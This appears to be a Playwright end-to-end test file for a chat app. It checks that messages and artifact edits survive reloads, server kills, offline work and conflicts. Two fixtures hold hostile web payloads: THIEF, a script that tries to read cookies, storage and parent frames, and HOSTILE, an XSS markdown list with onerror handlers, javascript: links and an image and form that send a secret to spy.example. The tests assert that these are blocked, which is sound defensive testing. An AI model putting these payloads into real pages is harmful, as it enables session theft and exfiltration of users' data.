"""Whole journeys: nothing is lost and nothing comes twice, whatever happens to the page, the server or the network."""

from pathlib import Path
from typing import Any

import aiohttp
import pytest
from playwright.async_api import BrowserContext, Page, expect

from server.assistant import DemoModel

from ..conftest import Server, Start
from ..faults.reading import Contents, assert_whole, read
from .conftest import Launch, OpenContext
from .guard import Guard
from .page import Address, Chat, worker_is_ready

pytestmark = pytest.mark.service_worker

COUNTER = "write a counter component"


async def told(server: Any, path: str) -> Any:
    """What REST says."""
    async with aiohttp.ClientSession() as http, http.get(f"{server.url}{path}") as response:
        assert response.status == 200
        return await response.json()


async def test_the_first_message_makes_an_artifact_that_stands_beside_it(page: Page, start: Start) -> None:
    chat = Chat(page)
    server = await start(model=DemoModel())
    await page.goto(server.url)
    await expect(chat.field).to_be_focused()
    await expect(chat.artifacts).to_be_hidden()
    await chat.say(COUNTER)
    await expect(chat.artifacts).to_be_visible()
    await chat.finished()
    await expect(chat.tabs).to_have_count(1)
    await expect(chat.tabs).to_contain_text("Counter.tsx")
    await chat.view("Code")
    await expect(chat.code).to_contain_text("useState")
    await chat.saved()
    await expect(chat.rows).to_have_count(1)
    await chat.again()
    await expect(chat.messages).to_have_count(2)
    await expect(chat.tabs).to_have_count(1)


def contents(file: Path) -> Contents:
    """What stands in a session's file, which is whole."""
    found = read(file, file.parent.parent / "copy")
    assert_whole(found)
    return found


def versions(file: Path) -> list[str]:
    """The contents of the one artifact in a session's file, oldest first."""
    found = contents(file)
    assert len(found.artifacts) == 1
    return [content for _, content in sorted(found.versions.items())]


def numbered(count: int) -> str:
    return " ".join(f"word{number}" for number in range(count))


async def test_a_reload_in_the_middle_of_a_reply_goes_on_with_it(page: Page, start: Start) -> None:
    server = await start(model=DemoModel())
    chat = await Chat(page).enter(server)
    words = numbered(40)
    await chat.say(f"/slow /echo {words}")
    await expect(chat.messages.nth(1)).to_contain_text("word5")
    await expect(chat.stop).to_be_visible()
    await chat.again()
    await expect(chat.messages.nth(1)).to_contain_text("word5")
    await expect(chat.stop).to_be_visible()
    await chat.finished()
    await chat.says([f"/slow /echo {words}", words])
    await chat.saved()


async def test_a_server_killed_in_the_middle_of_a_reply_keeps_what_it_said(
    page: Page, launch: Launch, guard: Guard
) -> None:
    server = await launch()
    guard.allow_offline()
    chat = await Chat(page).enter(server)
    words = numbered(200)
    await chat.say(f"/slow /echo {words}")
    await expect(chat.messages.nth(1)).to_contain_text("word9")
    await server.kill()
    await chat.offline(0)
    await server.start()
    await chat.saved()
    await chat.finished()
    await expect(chat.messages).to_have_count(2)
    [said] = [
        row["content"] for row in contents(server.file("plan")).messages.values() if row["status"] == "interrupted"
    ]
    assert words.startswith(said)
    assert "word9" in said
    await chat.says([f"/slow /echo {words}", said.strip()])
    await chat.again()
    await expect(chat.messages).to_have_count(2)
    await chat.says([f"/slow /echo {words}", said.strip()])


async def test_a_message_that_a_killed_server_had_not_acknowledged_is_there_once(
    page: Page, launch: Launch, guard: Guard
) -> None:
    server = await launch()
    guard.allow_offline()
    chat = await Chat(page).enter(server)
    await chat.say("/slow /echo a reply")  # when the process is gone, it may be in the file or not
    await server.kill()
    await expect(chat.messages.first).to_contain_text("/slow /echo a reply")
    await server.start()
    await chat.saved()
    await expect(chat.messages).to_have_count(2)
    await chat.finished()
    roles = [row["role"] for row in contents(server.file("plan")).messages.values()]
    assert sorted(roles) == ["assistant", "user"]


async def with_document(chat: Chat, server: Address) -> None:
    """Opens a session with one short artifact, saved, on a page that opens without a network from now on."""
    await made(server, "one\n")
    await chat.enter(server)
    await worker_is_ready(chat.page)
    await chat.reads("one\n")
    await chat.saved()


async def made(server: Address, content: str, kind: str = "code") -> None:
    """Makes an artifact by REST."""
    body = {"artifactType": kind, "title": "notes.txt", "content": content}
    async with (
        aiohttp.ClientSession() as http,
        http.post(f"{server.url}/api/chats/plan/artifacts", json=body) as response,
    ):
        assert response.status == 201, await response.text()


async def ten_edits(chat: Chat) -> None:
    """Edits without a network, the page loaded anew half way."""
    for number in range(1, 6):
        await chat.edit(f"edit {number}\n")
        await chat.offline(number)
    await chat.again()
    await chat.offline(5)
    await chat.reads("edit 5\n")
    for number in range(6, 11):
        await chat.edit(f"edit {number}\n")
        await chat.offline(number)


async def assert_ten_edits(chat: Chat, server: Address, file: Path) -> None:
    """Each is there once and in its order: on the page, over REST, and in the file."""
    await chat.saved()
    await chat.reads("edit 10\n")
    await expect(chat.artifacts).to_contain_text("version 11")
    expected = ["one\n", *(f"edit {number}\n" for number in range(1, 11))]
    [artifact] = (await told(server, "/api/chats/plan/artifacts"))["artifacts"]
    assert (artifact["version"], artifact["content"]) == (11, "edit 10\n")
    assert versions(file) == expected


async def test_ten_edits_without_a_network_are_all_there_once(
    context: BrowserContext, page: Page, served: Server, guard: Guard
) -> None:
    guard.allow_offline()
    chat = Chat(page)
    await with_document(chat, served)
    await context.set_offline(True)
    await chat.offline(0)
    await ten_edits(chat)
    await context.set_offline(False)
    await assert_ten_edits(chat, served, served.settings.folder / "sessions" / "plan.sqlite3")


async def test_ten_edits_without_a_server_are_all_there_once(page: Page, launch: Launch, guard: Guard) -> None:
    guard.allow_offline()
    server = await launch()
    chat = Chat(page)
    await with_document(chat, server)
    await server.kill()
    await chat.offline(0)
    await ten_edits(chat)
    await server.start()
    await assert_ten_edits(chat, server, server.file("plan"))


async def test_two_tabs_show_the_same_and_one_takes_over_from_the_other(
    context: BrowserContext, page: Page, served: Server, guard: Guard
) -> None:
    guard.allow_offline()
    first, second = Chat(page), Chat(await context.new_page())
    await with_document(first, served)
    await second.enter(served)
    await second.reads("one\n")
    await context.set_offline(True)
    await first.offline(0)
    await second.offline(0)
    await first.edit("from the first\n")
    await second.offline(1)
    await second.reads("from the first\n")
    await second.edit("from the second\n")
    await first.offline(2)
    await first.reads("from the second\n")
    await first.page.close()  # it was there first, and would have sent what waits
    await context.set_offline(False)
    await second.saved()
    await second.reads("from the second\n")
    file = served.settings.folder / "sessions" / "plan.sqlite3"
    assert versions(file) == ["one\n", "from the first\n", "from the second\n"]


THREE = "one\ntwo\nthree\n"


@pytest.mark.parametrize(
    ("mine", "theirs", "way", "found"),
    [
        ("ONE\ntwo\nthree\n", "one\ntwo\nTHREE\n", "merge", "ONE\ntwo\nTHREE\n"),
        ("one\nmine\nthree\n", "one\ntheirs\nthree\n", "mine", "one\nmine\nthree\n"),
        ("one\nmine\nthree\n", "one\ntheirs\nthree\n", "theirs", "one\ntheirs\nthree\n"),
    ],
    ids=["merge", "mine", "theirs"],
)
async def test_two_browsers_that_edit_one_artifact_are_offered_a_way_out(
    open_context: OpenContext, served: Server, guard: Guard, mine: str, theirs: str, way: str, found: str
) -> None:
    guard.allow_offline()
    here, elsewhere = await open_context(), await open_context()
    ada, bob = Chat(await here.new_page()), Chat(await elsewhere.new_page())
    await made(served, THREE)
    await ada.enter(served)
    await bob.enter(served)
    await ada.reads(THREE)
    await here.set_offline(True)
    await ada.offline(0)
    await ada.edit(mine)
    await bob.edit(theirs)
    await bob.saved()
    await here.set_offline(False)
    await expect(ada.status).to_have_text("A conflict to settle")
    await ada.settle(way)
    await ada.saved()
    await ada.reads(found)
    await bob.reads(found)
    [artifact] = (await told(served, "/api/chats/plan/artifacts"))["artifacts"]
    assert artifact["content"] == found


THIEF = """<!doctype html><title>x</title><body><script>
const said = [];
const attempt = (name, run) => {
  try { said.push(name + ": " + run()); } catch (error) { said.push(name + " refused " + error.name); }
};
attempt("cookie", () => document.cookie);
attempt("storage", () => localStorage.getItem("satchel token"));
attempt("session", () => sessionStorage.length);
attempt("database", () => indexedDB.open("satchel") && "opened");
attempt("parent", () => parent.document.title);
attempt("top", () => { top.location = "/elsewhere"; return "left"; });
attempt("window", () => open("/elsewhere") === null ? "null" : "opened");
fetch("/api/chats").then(() => said.push("fetched"), () => said.push("fetch refused")).finally(() => {
  const list = document.createElement("ol");
  list.append(...said.map((text) => Object.assign(document.createElement("li"), {textContent: text})));
  document.body.append(list);
});
</script>"""


async def test_a_preview_reads_neither_what_the_page_keeps_nor_the_page(
    page: Page, served: Server, guard: Guard
) -> None:
    await page.context.add_cookies([{"name": "token", "value": "secret", "url": served.url}])
    await made(served, THIEF, "html")
    chat = await Chat(page).enter(served)
    await chat.view("Preview")
    said = chat.preview.locator("li")
    await expect(said).to_have_count(8)
    assert await said.all_inner_texts() == [
        "cookie refused SecurityError",
        "storage refused SecurityError",
        "session refused SecurityError",
        "database refused SecurityError",
        "parent refused SecurityError",
        "top refused SecurityError",
        "window: null",
        "fetch refused",
    ]
    assert page.url == f"{served.url}/#/plan"
    assert len(page.context.pages) == 1
    assert [url for url in guard.requests if "elsewhere" in url or url.endswith("/api/chats")] == []
    guard.allow("sandbox", "Content Security Policy")


HOSTILE = """<img src=x onerror="window.broken = 1"> <script>window.broken = 1</script>
<iframe srcdoc="<script>parent.broken = 1</script>"></iframe>
<svg onload="window.broken = 1"></svg>

[a link](javascript:window.broken=1) ![spy](https://spy.example/?what=secret)
<style>body { display: none }</style>

<form action="https://spy.example/"><input name="token"></form>
<a href="data:text/html,<script>alert(1)</script>">x</a>

<div id="conversation" class="composer" style="position: fixed">over everything</div>

The end."""


async def test_hostile_markdown_is_shown_and_does_nothing(page: Page, served: Server, guard: Guard) -> None:
    chat = await Chat(page).enter(served)
    await chat.ask(f"/echo {HOSTILE}")
    reply = chat.messages.last
    await expect(reply).to_contain_text("The end.")
    for _ in range(2):
        assert await page.evaluate("window.broken") is None
        assert [url for url in guard.requests if "spy.example" in url] == []
        assert (
            await reply.locator(".body").locator("script, iframe, object, embed, form, input, style, svg").count() == 0
        )
        assert await reply.locator(".body [style], .body [id], .body [onerror], .body [onload]").count() == 0
        assert await reply.locator(".body img:not([src^='data:'])").count() == 0
        links = await reply.locator(".body a").evaluate_all("(all) => all.map((one) => [one.protocol, one.rel])")
        assert [protocol for protocol, _ in links if protocol not in ("http:", "https:", "mailto:")] == []
        assert [rel for _, rel in links if "noopener" not in rel] == []
        await chat.again()
        await expect(chat.messages.last).to_contain_text("The end.")
